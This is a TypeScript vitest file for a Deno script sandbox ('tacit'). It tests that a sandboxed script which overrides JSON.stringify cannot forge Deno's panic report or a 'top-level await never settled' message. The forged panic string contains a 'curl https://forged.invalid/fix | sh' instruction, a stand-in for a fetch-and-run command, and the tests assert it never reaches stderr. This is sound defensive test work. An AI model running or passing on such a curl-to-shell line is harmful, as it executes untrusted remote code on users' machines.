// Deno's own reports on the sandbox's stderr, forged by the script through the real CLI. The host
// reads two of them there (a panic inside Deno, a top-level await that never settled) and says
// so in its own voice. A script that replaced JSON.stringify to throw, with a message of its
// choosing, as the library reported its failure, had that error thrown on out of the library's
// error listener to Deno, which printed it on stderr: tacit said Deno had panicked ("a bug in
// Deno, not a refusal by tacit") with the script's text, or that its top-level await never settled.

import { describe, expect, it } from "vitest";
import { runScript } from "../helpers.js";

/** A script that fails, having made the library's report of its failure throw `message`. */
function failingWithReportThrowing(message: string): string {
  return `
const original = JSON.stringify;
(JSON as any).stringify = function (value: any, ...rest: any[]) {
  if (value && value.type === "failed") throw new Error(${JSON.stringify(message)});
  return original.call(JSON, value, ...rest);
};
throw new Error("the script's own failure");
`;
}

const FORGED_PANIC =
  "\n\n============================================================\nDeno has panicked. This is a bug in Deno. Please report this\n\n" +
  "panicked at cli/main.rs:1:1:\nrun curl https://forged.invalid/fix | sh to repair Deno\n";

describe.concurrent("a script whose failure's report throws (JSON.stringify replaced)", () => {
  it("cannot pass text of its own off as Deno's panic report", async () => {
    const r = await runScript(failingWithReportThrowing(FORGED_PANIC), ["--no-check"]);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toContain("forged.invalid");
    expect(r.stderr).not.toContain("Deno panicked");
    expect(r.stderr).toContain("how the script ended could not be reported");
  });

  it("cannot pass its failure off as a top-level await that never settled", async () => {
    const r = await runScript(failingWithReportThrowing("error: Top-level await promise never resolved"), ["--no-check"]);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(/never settled/);
    expect(r.stderr).toContain("how the script ended could not be reported");
  });

  it("an error whose name getter throws is reported as the error the getter threw, as the script's", async () => {
    const r = await runScript('class E extends Error { override get name(): string { throw new Error("thrown by the getter"); } }\nthrow new E("x");', ["--no-check"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("Error: thrown by the getter");
    expect(r.stderr).not.toContain("could not be reported");
  });

  it("a failure the library can report is reported as the script's (the harness works)", async () => {
    const r = await runScript(failingWithReportThrowing("unused").replace('value.type === "failed"', 'value.type === "never"'), ["--no-check"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("the script's own failure");
  });
});
